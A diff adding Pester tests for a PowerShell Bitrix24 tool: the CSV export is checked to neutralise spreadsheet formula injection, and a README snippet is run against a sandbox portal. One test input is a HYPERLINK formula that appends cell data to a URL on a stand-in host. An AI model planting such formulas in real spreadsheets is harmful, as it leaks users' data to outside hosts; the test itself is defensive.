@@ -204,3 +204,54 @@ Describe 'Import-Channels.ps1' {
         Get-B24OpenLine | Should -BeNullOrEmpty
     }
 }
+
+Describe 'Table.psm1' {
+    BeforeAll {
+        Import-Module (Join-Path $examples Table.psm1)
+        $path = Join-Path $TestDrive table.csv
+    }
+
+    AfterAll {
+        Remove-Module Table
+    }
+
+    It 'writes no cell that a spreadsheet would run: <Text>' -ForEach @(
+        @{ Text = '=HYPERLINK("http://x"&A1,"open")'; Cell = "'=HYPERLINK(""http://x""&A1,""open"")" }
+        @{ Text = '@SUM(A1)'; Cell = "'@SUM(A1)" }
+        @{ Text = '+49 30 123'; Cell = "'+49 30 123" }
+        @{ Text = "`tx"; Cell = "'`tx" }
+        @{ Text = '-5,5'; Cell = '-5,5' }
+        @{ Text = 'a=b'; Cell = 'a=b' }
+    ) {
+        [pscustomobject]@{ Text = $Text; Number = -1 } | Export-Table -Path $path
+
+        $row = (Import-Table -Path $path).Rows
+        $row.Text, $row.Number | Should -BeExactly $Cell, '-1'
+    }
+}
+
+Describe 'The snippet for thousands of rows in the README' {
+    It 'exits with <ExitCode> where <Case>' -ForEach @(
+        @{ Case = 'the portal cannot be reached'; ExitCode = 1; Connect = 'Connect-B24Portal http://127.0.0.1:1/rest/1/x/' }
+        @{ Case = 'there is no file'; ExitCode = 1; Connect = 'Connect-B24Portal -Sandbox'; Rows = $null }
+        @{ Case = 'a row fails'; ExitCode = 1; Connect = 'Connect-B24Portal -Sandbox'; Rows = 'Name,QueueType', 'A,all', 'B,badd' }
+        @{ Case = 'all rows are done'; ExitCode = 0; Connect = 'Connect-B24Portal -Sandbox'; Rows = 'Name,QueueType', 'A,all' }
+    ) {
+        $readme = Get-Content (Join-Path $PSScriptRoot '../../README.md') -Raw
+        $snippet = [regex]::Match($readme, '(?s)```powershell\n(\$ErrorActionPreference = .Stop.\nConnect-B24Portal.*?)```').Groups[1].Value
+        $snippet | Should -Match 'ResultPath'
+        $folder = Join-Path $TestDrive ([guid]::NewGuid())
+        $null = New-Item -ItemType Directory $folder
+        if ($Rows) { Set-Content (Join-Path $folder channels.csv) -Value $Rows }
+        $job = Join-Path $folder job.ps1
+        Set-Content $job -Value "Import-Module '$env:B24_TEST_MODULE'", "Set-Location '$folder'",
+            ($snippet -replace '(?m)^Connect-B24Portal .*$', $Connect)
+
+        $shell = Start-Shell $job
+        $null = $shell.StandardOutput.ReadToEnd()
+        $shell.WaitForExit()
+
+        $shell.ExitCode | Should -Be $ExitCode
+        if ($Rows) { @(Import-Csv (Join-Path $folder result.csv)) | Should -HaveCount ($Rows.Count - 1) }
+    }
+}
